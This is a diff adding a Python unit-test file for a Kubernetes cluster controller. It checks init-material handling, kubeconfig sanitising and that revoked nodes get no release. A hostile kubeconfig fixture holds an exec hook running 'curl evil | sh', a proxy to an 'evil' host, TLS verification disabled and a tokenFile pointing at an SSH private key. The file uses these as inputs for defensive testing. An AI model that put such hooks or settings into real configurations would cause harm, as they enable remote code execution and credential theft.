@@ -1,0 +1,126 @@
+"""Issue 10, items 2 and 7: init material only once while kubeadm-init runs; a safe kubeconfig;
+nothing handed to (or taken from) a revoked node."""
+
+from __future__ import annotations
+
+import base64
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+import yaml
+
+from controller.cluster import material as m
+from controller.cluster.context import INIT_STEP, JOIN_STEP
+from controller.cluster.kubeconfig import KubeconfigRefused, sanitise
+from controller.store import SqliteStore
+from tests.unit.controller.test_cluster import OUTPUTS, SPEC, TOKEN, Cluster
+
+HOSTILE = {
+    "apiVersion": "v1",
+    "kind": "Config",
+    "clusters": [
+        {
+            "name": "k",
+            "cluster": {
+                "server": "https://10.0.0.2:6443",
+                "certificate-authority-data": "Q0E=",
+                "insecure-skip-tls-verify": True,
+                "proxy-url": "http://evil:3128",
+            },
+        }
+    ],
+    "users": [
+        {
+            "name": "admin",
+            "user": {
+                "client-certificate-data": "Q0VSVA==",
+                "client-key-data": "S0VZ",
+                "exec": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]},
+                "auth-provider": {"name": "oidc"},
+                "tokenFile": "/home/operator/.ssh/id_rsa",
+                "username": "u",
+                "password": "p",
+            },
+        }
+    ],
+    "contexts": [{"name": "c", "context": {"cluster": "k", "user": "admin"}}],
+    "current-context": "c",
+}
+
+
+def b64(doc: object) -> str:
+    return base64.b64encode(yaml.safe_dump(doc).encode()).decode()
+
+
+@pytest.fixture
+async def cluster(tmp_path: Path) -> AsyncIterator[Cluster]:
+    store = SqliteStore(tmp_path / "t.db")
+    await store.put_environment("c1", SPEC, "holodeck.nvidia.com/v1alpha1", {})
+    yield Cluster(store, tmp_path)
+    await store.close()
+
+
+async def test_init_material_is_refused_unless_kubeadm_init_is_running(cluster: Cluster) -> None:
+    cp1 = await cluster.node("cp-1", "control-plane")
+    assert await cluster.orch.secrets_received(cp1, INIT_STEP, OUTPUTS, "")  # acknowledged ...
+    assert cluster.orch.material("c1") is None  # ... but not taken: the step never started
+    await cluster.succeed("cp-1", INIT_STEP, 1)
+    await cluster.orch.secrets_received(cp1, INIT_STEP, OUTPUTS, "")
+    assert cluster.orch.material("c1") is None  # nor after it finished
+
+
+async def test_init_material_is_accepted_once(cluster: Cluster) -> None:
+    cp1 = await cluster.node("cp-1", "control-plane")
+    assert await cluster.init(cp1)
+    assert cluster.orch.material("c1").token == TOKEN  # type: ignore[union-attr]
+    planted = {**OUTPUTS, m.TOKEN: "zzzzzz.0123456789zzzzzz", m.ENDPOINT: "6.6.6.6:6443"}
+    await cluster.orch.secrets_received(cp1, INIT_STEP, planted, "")  # still running: a second go
+    material = cluster.orch.material("c1")
+    assert material is not None and material.token == TOKEN and material.endpoint == "10.0.0.2:6443"
+
+
+async def test_a_planted_kubeconfig_is_stored_without_its_unsafe_settings(cluster: Cluster) -> None:
+    cp1 = await cluster.node("cp-1", "control-plane")
+    assert await cluster.init(cp1, {**OUTPUTS, m.KUBECONFIG: b64(HOSTILE)})
+    doc = yaml.safe_load(cluster.orch.kubeconfig("c1"))
+    user, kube = doc["users"][0]["user"], doc["clusters"][0]["cluster"]
+    assert user == {"client-certificate-data": "Q0VSVA==", "client-key-data": "S0VZ"}
+    assert kube == {"server": "https://10.0.0.2:6443", "certificate-authority-data": "Q0E="}
+
+
+def test_what_is_not_a_kubeconfig_is_refused() -> None:
+    for bad in ("not base64!", base64.b64encode(b"- a list").decode(), b64({"kind": "Pod"})):
+        with pytest.raises(KubeconfigRefused):
+            sanitise(bad)
+    _, removed = sanitise(b64(HOSTILE))
+    assert "user.exec" in removed and "cluster.insecure-skip-tls-verify" in removed
+
+
+async def test_a_revoked_node_waiting_at_its_gate_gets_no_release(cluster: Cluster) -> None:
+    cp1 = await cluster.node("cp-1", "control-plane")
+    w1 = await cluster.node("w-1", "worker")
+    w2 = await cluster.node("w-2", "worker")
+    await cluster.orch.gate_requested(w1, JOIN_STEP, cluster.digest("w-1"))
+    await cluster.orch.gate_requested(w2, JOIN_STEP, cluster.digest("w-2"))
+    await cluster.store.update_node("w-1", revoked=True)  # revoked while it waits (no node_revoked call)
+    await cluster.init(cp1)
+    assert cluster.releases("w-1") == []
+    assert len(cluster.releases("w-2")) == 1
+    await cluster.orch.gate_requested(w1, JOIN_STEP, cluster.digest("w-1"))  # asking again: still nothing
+    assert cluster.releases("w-1") == []
+
+
+async def test_a_revoked_control_plane_neither_refreshes_nor_sends_material(cluster: Cluster) -> None:
+    cp1 = await cluster.node("cp-1", "control-plane")
+    await cluster.init(cp1)
+    await cluster.succeed("cp-1", INIT_STEP, 1)
+    cluster.sent("cp-1")
+    await cluster.orch.forget_material("c1")
+    await cluster.store.update_node("cp-1", revoked=True)
+    w1 = await cluster.node("w-1", "worker")
+    await cluster.orch.gate_requested(w1, JOIN_STEP, cluster.digest("w-1"))
+    assert [msg for msg in cluster.sent("cp-1") if msg.WhichOneof("kind") == "command"] == []
+    fresh = {m.TOKEN: "zzzzzz.0123456789zzzzzz", m.CA_HASH: OUTPUTS[m.CA_HASH]}
+    await cluster.orch.secrets_received(cp1, "refresh-join-material", fresh, "refresh-anything")
+    assert cluster.releases("w-1") == []
